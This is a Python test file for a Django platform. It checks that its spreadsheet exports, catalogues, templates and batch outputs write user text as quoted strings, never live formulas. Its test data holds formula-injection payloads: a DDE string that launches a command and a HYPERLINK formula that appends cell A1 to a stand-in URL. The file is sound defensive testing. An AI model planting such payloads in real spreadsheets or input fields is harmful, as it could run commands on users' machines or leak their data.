"""Issue 9: no workbook the platform writes holds a live formula made of someone's text.

Every writer (achievement exports, quarterly catalogues, import templates, match-batch output) goes
through :class:`techmarket.core.spreadsheets.CellWriter`; each is read back with openpyxl, which tells a
string cell (``s``) from a formula (``f``), and with python-calamine, which reads what Excel shows.
"""

from __future__ import annotations

import io
import json

import openpyxl
import pytest
import xlsxwriter
from django.utils import timezone
from python_calamine import CalamineWorkbook

from techmarket.core.spreadsheets import CellWriter, looks_like_formula

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def cells_of(content: bytes | str) -> list[openpyxl.cell.Cell]:
    source = io.BytesIO(content) if isinstance(content, bytes) else content
    workbook = openpyxl.load_workbook(source)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_texts_are_strings(content: bytes | str, texts: list[str]) -> None:
    cells = cells_of(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    found = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        assert text in found, text
        assert found[text].data_type == "s"
        assert found[text].quotePrefix  # stays text when the cell is edited in Excel
    calamine = (
        CalamineWorkbook.from_filelike(io.BytesIO(content))
        if isinstance(content, bytes)
        else CalamineWorkbook.from_path(content)
    )
    values = [
        value
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for value in row
    ]
    for text in texts:
        assert text in values


def test_formula_starts():
    assert all(looks_like_formula(text) for text in [*HOSTILE, "\r=1", "\n=1"])
    assert not looks_like_formula("石墨烯 = 好")
    assert not looks_like_formula("")


def test_cell_writer_writes_every_kind_of_value():
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    cells = CellWriter(workbook)
    sheet = workbook.add_worksheet("x")
    bold = cells.add_format({"bold": True})
    cells.write_row(sheet, 0, 0, [*HOSTILE, "普通", 3, 2.5, None, True], bold)
    cells.write_row(sheet, 1, 0, HOSTILE)
    workbook.close()
    content = buffer.getvalue()
    assert_texts_are_strings(content, HOSTILE)
    row = cells_of(content)[: len(HOSTILE) + 5]
    assert [c.value for c in row[len(HOSTILE) :]] == ["普通", 3, 2.5, None, True]
    assert row[0].font.b  # the quoted twin keeps the format it was given


@pytest.fixture
def hostile_record(regions, reviewers, applicant):
    from techmarket.achievements.choices import AchievementState
    from techmarket.achievements.tests.factories import achievement_in_state

    return achievement_in_state(
        AchievementState.PUBLISHED,
        applicant=applicant,
        region=regions["county"],
        reviewers=reviewers,
        name='=HYPERLINK("http://example.invalid","石墨烯")',
        keywords="+cmd|calc!A0",
        abstract="@SUM(A1:A2) 石墨烯导热膜",
    )


TEXTS = ['=HYPERLINK("http://example.invalid","石墨烯")', "+cmd|calc!A0", "@SUM(A1:A2) 石墨烯导热膜"]


@pytest.mark.django_db
def test_the_web_export_writes_text(client, hostile_record):
    response = client.get("/achievements/export.xlsx")
    assert response.status_code == 200
    assert_texts_are_strings(
        b"".join(response.streaming_content) if response.streaming else response.content, TEXTS
    )


@pytest.mark.django_db
def test_the_quarterly_catalogue_writes_text(settings, tmp_path, hostile_record):
    from techmarket.achievements import catalogue

    settings.VAR_DIR = tmp_path
    today = timezone.localdate()
    published = catalogue.publish(quarter=f"{today.year}Q{(today.month - 1) // 3 + 1}")
    assert_texts_are_strings(str(tmp_path / "catalogues" / published.xlsx_name), TEXTS)


def test_the_import_template_writes_text():
    from techmarket.achievements.imports import template

    content = template.template_xlsx()
    assert not [cell.coordinate for cell in cells_of(content) if cell.data_type == "f"]


def test_the_match_batch_output_writes_text(tmp_path):
    from techmarket.matching import batch

    results = [
        {
            "demand_id": "=1+2",
            "matches": [
                {"id": "-3+4", "score": 1.5, "reasons": [{"kind": "=x", "value": "y", "weight": 1.0}]}
            ],
        }
    ]
    path = tmp_path / "out.xlsx"
    batch.write(path, results)
    assert_texts_are_strings(str(path), ["=1+2", "-3+4", "=x y +1"])
    assert json.dumps(results)  # unchanged input
